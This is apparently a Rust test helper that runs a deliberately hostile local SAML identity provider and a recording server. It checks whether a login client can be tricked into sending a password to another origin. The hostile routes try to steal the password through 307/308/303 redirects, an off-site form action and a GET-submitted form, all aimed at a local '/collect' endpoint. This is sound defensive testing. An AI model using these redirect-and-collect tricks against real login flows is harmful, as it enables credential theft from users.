//! An IdP on 127.0.0.1 that tries to get the password sent elsewhere, and a recorder: a second
//! origin (another port) that keeps every request it receives.
//!
//! Routes of the hostile IdP (`other` is the recorder's base URL, another origin):
//!
//! | route                      | answers                                                        |
//! |----------------------------|----------------------------------------------------------------|
//! | `GET  /{r307,r308,r303}/start` | a login form that posts to `login` on this origin          |
//! | `POST /{r307,r308,r303}/login` | that status, to `{other}/collect`                          |
//! | `GET  /same307/start`      | a login form posting to `login`, which 307s to `login2` (same origin) |
//! | `POST /same307/login2`     | the SAML response page when the password arrived               |
//! | `GET  /offsite/start`      | a login form whose action is `{other}/collect`                 |
//! | `GET  /getform/start`      | a login form submitted with GET to `{other}/collect`           |
//! | `GET  /cross/start`        | 302 to `{other}/page` (no password involved)                   |
//!
//! The recorder answers every request with the SAML response page for AWS.

#![allow(dead_code, unreachable_pub)] // each test binary uses part of it

use super::fake_idp::{PASSWORD, escape, saml_response_b64};
use axum::Router;
use axum::body::Bytes;
use axum::extract::Form;
use axum::http::{Method, StatusCode, Uri, header};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::{get, post};
use std::collections::HashMap;
use std::sync::{Arc, Mutex};

/// One request the recorder received.
#[derive(Debug, Clone)]
pub struct Recorded {
    pub method: String,
    pub uri: String,
    pub body: String,
}

/// A second origin that keeps what it receives.
#[derive(Clone)]
pub struct Recorder {
    pub url: String,
    log: Arc<Mutex<Vec<Recorded>>>,
}

impl Recorder {
    pub fn requests(&self) -> Vec<Recorded> {
        self.log.lock().unwrap().clone()
    }

    /// True when any request (URL or body) held the password, form-encoded or not.
    pub fn saw_password(&self) -> bool {
        let encoded: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
        self.requests().iter().any(|r| {
            [&r.uri, &r.body]
                .iter()
                .any(|t| t.contains(PASSWORD) || t.contains(&encoded))
        })
    }
}

fn saml_page() -> Html<String> {
    Html(format!(
        r#"<form method="post" action="https://signin.aws.amazon.com/saml"><input type="hidden" name="SAMLResponse" value="{}"></form>"#,
        saml_response_b64()
    ))
}

fn login_page(action: &str, method: &str) -> Html<String> {
    Html(format!(
        r#"<title>Sign in</title><form method="{method}" action="{}">
        <input type="text" name="username"><input type="password" name="password">
        <button type="submit">Login</button></form>"#,
        escape(action)
    ))
}

async fn bind() -> (tokio::net::TcpListener, String) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    (listener, url)
}

/// Starts a recorder on a free port.
pub async fn recorder() -> Recorder {
    let (listener, url) = bind().await;
    let log: Arc<Mutex<Vec<Recorded>>> = Arc::default();
    let keep = log.clone();
    let app = Router::new().fallback(move |method: Method, uri: Uri, body: Bytes| {
        let keep = keep.clone();
        async move {
            keep.lock().unwrap().push(Recorded {
                method: method.to_string(),
                uri: uri.to_string(),
                body: String::from_utf8_lossy(&body).into_owned(),
            });
            saml_page()
        }
    });
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    Recorder { url, log }
}

fn redirect(status: StatusCode, to: String) -> Response {
    (status, [(header::LOCATION, to)]).into_response()
}

/// Starts the hostile IdP on a free port, sending what it can to `other`; returns its base URL.
pub async fn hostile(other: &str) -> String {
    let (listener, url) = bind().await;
    let collect = format!("{other}/collect");
    let mut app = Router::new();
    for (path, status) in [
        ("r307", StatusCode::TEMPORARY_REDIRECT),
        ("r308", StatusCode::PERMANENT_REDIRECT),
        ("r303", StatusCode::SEE_OTHER),
    ] {
        let to = collect.clone();
        app = app
            .route(
                &format!("/{path}/start"),
                get(|| async { login_page("login", "post") }),
            )
            .route(
                &format!("/{path}/login"),
                post(move || async move { redirect(status, to) }),
            );
    }
    let offsite = collect.clone();
    let getform = collect.clone();
    let page = format!("{other}/page");
    let app = app
        .route(
            "/same307/start",
            get(|| async { login_page("login", "post") }),
        )
        .route(
            "/same307/login",
            post(|| async { redirect(StatusCode::TEMPORARY_REDIRECT, "login2".into()) }),
        )
        .route(
            "/same307/login2",
            post(|Form(f): Form<HashMap<String, String>>| async move {
                if f.get("password").map(String::as_str) == Some(PASSWORD) {
                    saml_page().into_response()
                } else {
                    (StatusCode::BAD_REQUEST, "the 307 lost the body").into_response()
                }
            }),
        )
        .route(
            "/offsite/start",
            get(move || async move { login_page(&offsite, "post") }),
        )
        .route(
            "/getform/start",
            get(move || async move { login_page(&getform, "get") }),
        )
        .route(
            "/cross/start",
            get(move || async move { redirect(StatusCode::FOUND, page) }),
        );
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    url
}
